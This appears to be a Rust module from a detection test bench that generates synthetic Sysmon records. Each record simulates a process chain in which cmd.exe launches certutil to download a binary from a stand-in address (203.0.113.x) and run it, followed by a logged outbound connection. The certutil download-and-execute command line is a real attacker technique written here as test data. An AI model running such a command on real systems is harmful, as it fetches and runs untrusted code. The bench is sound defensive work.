//! What the bench plants among harmless records: scenes on hosts of their own, each a line of processes in which one
//! command matches one shipped rule, with a child and a connection.

use serde_json::{Value, json};
use std::fmt::Write as _;

/// Records of one scene.
pub(super) const RECORDS: u64 = 4;

/// One scene.
pub(super) struct Scene {
    /// Its number, from 0: decides every name in it.
    pub(super) number: u64,
    /// Milliseconds since 1970.
    pub(super) millis: i64,
}

/// A number with all its bits mixed: names must not sort as they were made.
fn mixed(number: u64, salt: u64) -> u64 {
    let mut z = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ salt.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

impl Scene {
    fn guid(&self, salt: u64) -> String {
        let (high, low) = (mixed(self.number, salt), mixed(self.number, salt + 100));
        format!(
            "{{{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}}}",
            high >> 32,
            (high >> 16) & 0xffff,
            high & 0xfff,
            low >> 52,
            low & 0xffff_ffff_ffff
        )
    }

    /// The host that it plays on.
    pub(super) fn host(&self) -> String {
        format!("station{:06}.example.net", self.number)
    }

    fn record(&self, id: u32, nth: i64, own: Value) -> String {
        let stamp = ids::Timestamp::from_micros((self.millis + nth * 200) * 1000).to_string();
        let mut record = json!({
            "EventTime": stamp, "@timestamp": stamp, "Hostname": self.host(), "EventID": id,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon",
            "UtcTime": stamp.trim_end_matches('Z').replace('T', " "), "User": format!("CORP\\user{}", self.number),
        });
        if let (Some(all), Value::Object(own)) = (record.as_object_mut(), own) {
            all.extend(own);
        }
        record.to_string()
    }

    fn process(&self, nth: i64, own: u64, image: &str, command: &str, parent: (u64, &str, &str)) -> String {
        let mut sha256 = String::new();
        for part in 0..4 {
            // Writing to a text cannot fail.
            let _ = write!(sha256, "{:016X}", mixed(self.number, own * 10 + part));
        }
        let (above, above_image, above_command) = parent;
        self.record(
            1,
            nth,
            json!({
                "ProcessGuid": self.guid(own), "ProcessId": (4000 + own * 4).to_string(), "Image": image,
                "CommandLine": command, "CurrentDirectory": "C:\\Users\\", "IntegrityLevel": "Medium",
                "LogonGuid": self.guid(9), "LogonId": "0x3e7", "Hashes": format!("SHA256={sha256}"),
                "ParentProcessGuid": self.guid(above), "ParentProcessId": (4000 + above * 4).to_string(),
                "ParentImage": above_image, "ParentCommandLine": above_command,
            }),
        )
    }

    /// Its records, one a line.
    pub(super) fn write(&self, out: &mut Vec<u8>) {
        let number = self.number;
        let shell =
            ("C:\\Windows\\System32\\cmd.exe", format!("cmd.exe /c C:\\Users\\user{number}\\start{number}.bat"));
        let tool = (
            "C:\\Windows\\System32\\certutil.exe",
            format!(
                "certutil.exe -urlcache -f http://203.0.113.{}/p{number}.bin C:\\Users\\user{number}\\p.exe",
                number % 250
            ),
        );
        let dropped = format!("C:\\Users\\user{number}\\p.exe");
        let lines = [
            self.process(0, 1, shell.0, &shell.1, (8, "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe")),
            self.process(1, 2, tool.0, &tool.1, (1, shell.0, &shell.1)),
            self.process(2, 3, &dropped, &format!("{dropped} --id {number}"), (2, tool.0, &tool.1)),
            self.record(
                3,
                3,
                json!({
                    "ProcessGuid": self.guid(2), "ProcessId": "4008", "Image": tool.0, "Protocol": "tcp", "Initiated": "true",
                    "SourceIp": format!("10.7.{}.{}", number / 250 % 250, number % 250), "SourcePort": "50123",
                    "DestinationIp": format!("203.0.113.{}", number % 250), "DestinationPort": "80",
                }),
            ),
        ];
        for line in lines {
            out.extend_from_slice(line.as_bytes());
            out.push(b'\n');
        }
    }
}
